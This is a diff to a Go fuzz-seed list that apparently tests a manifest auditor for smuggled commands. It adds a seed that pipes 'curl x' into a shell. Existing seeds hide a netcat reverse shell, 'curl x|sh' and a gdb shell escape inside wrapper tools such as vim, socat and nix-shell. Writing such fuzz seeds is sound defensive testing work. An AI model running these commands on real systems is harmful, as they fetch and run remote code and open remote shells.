@@ -70,6 +70,7 @@ var fuzzSeeds = [][]string{
 	{"nix-shell", "-p", "nodejs", "--arg", "a", "b", "--run", "flock /tmp/l -c 'script -qc \"kubectl exec p -- npx pkg\" /dev/null'"},
 	{"find", ".", "-exec", "vim", "-c", ":r !nc -e /bin/sh x 9", "{}", ";", "-execdir", "socat", "STDIO", "SYSTEM:tar -xf a --to-command='curl x|sh'", "+"},
 	{"gdb", "-ex", "shell node --import=data:text/javascript;base64,eA== s.js", "--eval-command=!perl '-Mstrict;exec 1'"},
+	{"env", "A=1", "${SHELL}", "-c", "curl x | sh"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
